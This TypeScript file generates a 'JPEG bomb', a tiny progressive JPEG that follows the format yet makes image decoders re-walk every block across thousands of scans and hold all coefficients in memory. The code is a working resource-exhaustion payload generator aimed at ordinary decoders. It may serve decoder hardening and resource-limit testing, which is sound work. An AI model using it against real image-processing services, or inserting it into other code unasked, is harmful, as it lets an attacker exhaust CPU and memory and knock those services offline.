/** A JPEG that says little and asks for much. */
export interface JpegBomb {
  readonly widthPx: number;
  readonly heightPx: number;
  /** Scans after the first: passes over coefficients that are all zero. 1 + 2,660 is what the format allows. */
  readonly scans: number;
}

/**
 * A progressive JPEG in three components, all of it one colour, which follows the format to the letter: one bit a block for
 * the brightness, then scans with runs of 32,767 empty blocks. Each scan makes a decoder walk over every block again, and
 * all coefficients have to be held until the last one came.
 * Source: ITU-T T.81 annexes B, F and G.
 */
export function jpegBomb({ widthPx, heightPx, scans }: JpegBomb): Buffer {
  const blocks = Math.ceil(widthPx / 8) * Math.ceil(heightPx / 8);
  const parts = [
    [0xff, 0xd8],
    segment(0xdb, [0, ...Array.from({ length: 64 }, () => 1)]),
    frame(widthPx, heightPx),
    // Tables with one code of one bit: difference 0, and the end of a run of 2^14 to 2^15 - 1 blocks.
    segment(0xc4, [0x00, 1, ...zeros(15), 0x00]),
    segment(0xc4, [0x10, 1, ...zeros(15), 0xe0]),
    ...[1, 2, 3].flatMap((component) => [
      scan({ component, from: 0, to: 0, high: 0, low: 0 }),
      bits(blocks, () => '0'),
    ]),
  ];
  const run = emptyRuns(blocks);
  let left = scans;
  for (const pass of passes()) {
    if (left-- <= 0) break;
    parts.push(scan(pass), run);
  }
  return Buffer.concat([...parts.map((part) => Buffer.from(part)), Buffer.from([0xff, 0xd9])]);
}

interface Pass {
  readonly component: number;
  readonly from: number;
  readonly to: number;
  readonly high: number;
  readonly low: number;
}

/** Every coefficient of every component alone, bit after bit. */
function* passes(): Generator<Pass> {
  for (let low = 13; low >= 0; low--)
    for (const component of [1, 2, 3])
      for (let at = 1; at < 64; at++)
        yield { component, from: at, to: at, high: low === 13 ? 0 : low + 1, low };
}

function scan({ component, from, to, high, low }: Pass): number[] {
  return segment(0xda, [1, component, 0x00, from, to, (high << 4) | low]);
}

function frame(widthPx: number, heightPx: number): number[] {
  const size = [heightPx >> 8, heightPx & 0xff, widthPx >> 8, widthPx & 0xff];
  return segment(0xc2, [8, ...size, 3, 1, 0x11, 0, 2, 0x11, 0, 3, 0x11, 0]);
}

function segment(marker: number, body: readonly number[]): number[] {
  const length = body.length + 2;
  return [0xff, marker, length >> 8, length & 0xff, ...body];
}

/** Runs over all blocks: the code of one bit, then 14 bits with what is more than 16,384. */
function emptyRuns(blocks: number): Buffer {
  const runs: number[] = [];
  for (let left = blocks; left > 0;) {
    const length = Math.max(16_384, Math.min(32_767, left));
    runs.push(length - 16_384);
    left -= length;
  }
  return bits(runs.length, (i) => `0${runs[i]!.toString(2).padStart(14, '0')}`);
}

/** Bits as a scan holds them: filled with ones at the end, 0xFF followed by 0. */
function bits(count: number, textOf: (index: number) => string): Buffer {
  let pending = '';
  const bytes: number[] = [];
  const put = (byte: number) => bytes.push(...(byte === 0xff ? [0xff, 0] : [byte]));
  for (let i = 0; i < count; i++) {
    pending += textOf(i);
    while (pending.length >= 8) {
      put(Number.parseInt(pending.slice(0, 8), 2));
      pending = pending.slice(8);
    }
  }
  if (pending !== '') put(Number.parseInt(pending.padEnd(8, '1'), 2));
  return Buffer.from(bytes);
}

function zeros(count: number): number[] {
  return Array.from({ length: count }, () => 0);
}
